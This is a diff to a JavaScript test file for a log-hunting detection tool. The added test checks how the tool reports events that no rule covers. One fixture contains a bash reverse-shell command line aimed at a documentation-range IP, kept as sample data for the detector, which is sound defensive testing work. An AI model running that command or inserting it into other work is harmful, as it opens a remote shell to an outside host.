@@ -10,7 +10,7 @@ import { gzipSync } from 'node:zlib';
 
 import { attack, FOUND_BY } from './attack.mjs';
 import { makeEvtx } from './evtx.mjs';
-import { english, environment, file, folder, HARMLESS, HIKESHI, lines, objects, rule, RULES, SHELL, SHELL_RULE, started } from './program.mjs';
+import { english, environment, file, folder, HARMLESS, hikeshi, HIKESHI, lines, objects, rule, RULES, SHELL, SHELL_RULE, started } from './program.mjs';
 
 const own = ['hunt', ...FOUND_BY, '--quiet'];
 const json = [...own, '--json'];
@@ -44,6 +44,32 @@ test('any number of threads gives the same, byte for byte', async (t) => {
 		assert.equal(english(65, [...json, '--threads', '3', '-'], { input }).out, one.out);
 		assert.ok(lines(one.out).length > 48);
 	});
+});
+
+test('events that no rule looks at are told, with their logsources and what to do', () => {
+	const kinds = Array.from({ length: 10 }, (_, i) => JSON.stringify(started('/a', 'b', { hikeshi: { product: `acme${i}`, category: 'thing' } })));
+	const flat = file('unrouted/flat.ndjson', ['{"CommandLine":"bash -i >& /dev/tcp/192.0.2.1/1 0>&1","Image":"/bin/bash"}']);
+	const access = file('unrouted/access.log', ['192.0.2.1 - - [20/Nov/2026:08:00:01 +0900] "GET / HTTP/1.1" 200 5 "-" "curl/8"']);
+	const many = file('unrouted/many.ndjson', kinds);
+	for (const threads of ['1', '3']) {
+		const one = english(0, ['hunt', ...FOUND_BY, '--threads', threads, flat, access]);
+		assert.match(one.err, /^2 events are of logsources that no rule looks at: of no known kind, \/webserver\/\n {2}say what they are with --logsource /m);
+		const { summary } = JSON.parse(english(0, [...own, '--output', 'json', '--threads', threads, flat, access]).out);
+		assert.equal(summary.unrouted, 2);
+		assert.deepEqual(summary.unrouted_logsources, [{ product: '', category: '', service: '' }, { product: '', category: 'webserver', service: '' }]);
+	}
+	assert.match(hikeshi(['--lang', 'ja', 'hunt', ...FOUND_BY, flat, access]).err, /^どのルールも見ないログソースのイベント: 2件.*種類がわからないもの, \/webserver\/\n.*--logsource.*--rules/m);
+	/* bound: eight names, then only that there are more */
+	const crowd = JSON.parse(english(0, [...own, '--output', 'json', many]).out).summary;
+	assert.equal(crowd.unrouted, 10);
+	assert.equal(crowd.unrouted_logsources.length, 8);
+	assert.match(english(0, ['hunt', ...FOUND_BY, many]).err, /acme7\/thing\/ …$/m);
+	/* what it says helps: JSON too is what --logsource says */
+	const told = JSON.parse(english(0, ['hunt', '--rules', RULES, '--quiet', '--logsource', 'linux/process_creation/', '--output', 'json', flat]).out);
+	assert.equal(told.summary.unrouted, 0);
+	assert.ok(told.summary.detections > 0);
+	/* nothing is said where each event was looked at */
+	assert.doesNotMatch(english(0, ['hunt', ...FOUND_BY, file('unrouted/good.ndjson', [JSON.stringify(SHELL)])]).err, /no rule looks/);
 });
 
 test('numbers of records and lines of what cannot be read', () => {
